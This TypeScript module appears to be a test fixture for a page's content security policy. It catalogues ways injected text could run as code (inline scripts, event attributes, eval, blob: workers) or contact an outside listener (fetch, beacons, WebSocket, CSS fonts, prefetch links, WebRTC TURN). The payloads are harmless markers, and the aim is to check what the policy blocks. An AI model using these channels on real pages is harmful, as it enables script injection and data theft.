/**
 * Ways in which text that slipped into a page could become code, or reach somebody outside. Each
 * is run in the page and knows nothing but the address of a listener outside; what runs, says so
 * in `ran`, and what gets out is heard there.
 */
export interface Injection {
  readonly name: string
  readonly run: (outside: string) => unknown
  /** No content policy covers it: refused by the window, which another's browser is not. */
  readonly isPastPolicy?: boolean
}

declare global {
  var ran: string[]
}

const asCode: readonly Injection[] = [
  {
    name: 'an inline script',
    run() {
      const script = document.createElement('script')
      script.textContent = 'ran.push("inline")'
      document.body.append(script)
    },
  },
  {
    name: 'a module written inline',
    run() {
      const script = document.createElement('script')
      script.type = 'module'
      script.textContent = 'ran.push("inline module")'
      document.body.append(script)
    },
  },
  {
    name: 'an event attribute',
    run() {
      const holder = document.createElement('div')
      holder.innerHTML =
        '<img src="data:," onerror="ran.push(\'attribute\')"><svg onload="ran.push(\'svg\')">'
      document.body.append(holder)
    },
  },
  {
    name: 'a javascript: link clicked',
    run() {
      const link = document.createElement('a')
      link.href = 'javascript:void ran.push("link")'
      document.body.append(link)
      link.click()
      link.remove()
    },
  },
  {
    name: 'eval',
    // Later, so that it is the page's own and not what the inspector lets through.
    run: () => setTimeout(() => Reflect.get(globalThis, 'eval')('ran.push("eval")')),
  },
  { name: 'new Function', run: () => setTimeout(() => new Function('ran.push("Function")')()) },
  {
    name: 'a timer given text',
    run: () => setTimeout('ran.push("timer")' as unknown as () => void),
  },
  {
    name: 'WebAssembly',
    run: () =>
      setTimeout(() => {
        new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0))
        ran.push('wasm')
      }),
  },
  {
    name: 'a script of data:',
    run() {
      const script = document.createElement('script')
      script.src = 'data:text/javascript,ran.push("data")'
      document.body.append(script)
    },
  },
  {
    name: 'a script of blob:',
    run() {
      const script = document.createElement('script')
      script.src = URL.createObjectURL(new Blob(['ran.push("blob")']))
      document.body.append(script)
    },
  },
  {
    name: 'an import of blob:',
    run() {
      const blob = new Blob(['ran.push("import")'], { type: 'text/javascript' })
      import(/* @vite-ignore */ URL.createObjectURL(blob)).catch(() => undefined)
    },
  },
  {
    name: 'a worker of blob:',
    run() {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      worker.onmessage = () => ran.push('worker')
      worker.onerror = (event) => event.preventDefault()
    },
  },
  {
    name: 'a base for other addresses',
    run(outside) {
      const base = document.createElement('base')
      base.href = outside
      document.head.append(base)
      if (document.baseURI.startsWith(outside)) ran.push('base')
      base.remove()
    },
  },
]

const toTheOutside: readonly Injection[] = [
  {
    name: 'a script from outside',
    run(outside) {
      const script = document.createElement('script')
      script.src = `${outside}/x.js`
      document.body.append(script)
    },
  },
  { name: 'fetch', run: (outside) => void fetch(`${outside}/fetch`).catch(() => undefined) },
  {
    name: 'fetch without an answer',
    run: (outside) =>
      void fetch(`${outside}/opaque`, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(
        () => undefined,
      ),
  },
  {
    name: 'XMLHttpRequest',
    run(outside) {
      const asking = new XMLHttpRequest()
      asking.open('GET', `${outside}/xhr`)
      asking.send()
    },
  },
  {
    name: 'a WebSocket',
    run: (outside) => void new WebSocket(outside.replace('http', 'ws')),
  },
  { name: 'an EventSource', run: (outside) => void new EventSource(`${outside}/events`) },
  { name: 'a beacon', run: (outside) => navigator.sendBeacon(`${outside}/beacon`, 'x') },
  {
    name: 'a picture',
    run(outside) {
      new Image().src = `${outside}/x.png`
    },
  },
  {
    name: 'a video',
    run(outside) {
      const video = document.createElement('video')
      video.src = `${outside}/x.mp4`
      video.load()
    },
  },
  {
    name: 'a style sheet, an import in one, a picture and a font of one',
    run(outside) {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${outside}/x.css`
      const style = document.createElement('style')
      style.textContent = `@import url(${outside}/i.css);
        @font-face { font-family: Stolen; src: url(${outside}/x.woff2) }
        .stolen { font-family: Stolen; background: url(${outside}/b.png) }`
      const marked = document.createElement('p')
      marked.className = 'stolen'
      marked.textContent = 'x'
      document.body.append(link, style, marked)
      setTimeout(() => {
        for (const each of [link, style, marked]) each.remove()
      }, 300)
    },
  },
  ...(
    ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'manifest'] as const
  ).map(
    (rel): Injection => ({
      name: `a link of ${rel}`,
      run: new Function(
        'outside',
        `const link = Object.assign(document.createElement('link'), { rel: '${rel}', href: outside + '/${rel}', as: 'script' })
         document.head.append(link)`,
      ) as Injection['run'],
    }),
  ),
  {
    name: 'a ping of a link',
    run(outside) {
      const link = document.createElement('a')
      link.href = '#'
      link.ping = `${outside}/ping`
      document.body.append(link)
      link.addEventListener('click', (event) => event.preventDefault())
      link.click()
      link.remove()
    },
  },
  {
    name: 'a report',
    run: (outside) =>
      void fetch(location.href, { headers: { 'report-to': outside } }).catch(() => undefined),
  },
  {
    name: 'WebRTC, by UDP and by TCP',
    isPastPolicy: true,
    async run(outside) {
      const { hostname, port } = new URL(outside)
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${hostname}:${port}` },
          ...['udp', 'tcp'].map((way) => ({
            urls: `turn:${hostname}:${port}?transport=${way}`,
            username: 'a',
            credential: 'b',
          })),
        ],
      })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    },
  },
  {
    name: 'WebTransport',
    run(outside) {
      if (!('WebTransport' in globalThis)) return
      const { port } = new URL(outside)
      const transport = new WebTransport(`https://127.0.0.1:${port}/`)
      transport.ready.catch(() => undefined)
      transport.closed.catch(() => undefined)
    },
  },
  {
    name: 'a service worker',
    run: () =>
      void navigator.serviceWorker
        ?.register('/sw.js')
        .then(() => ran.push('service worker'))
        .catch(() => undefined),
  },
]

export const INJECTIONS: readonly Injection[] = [...asCode, ...toTheOutside]
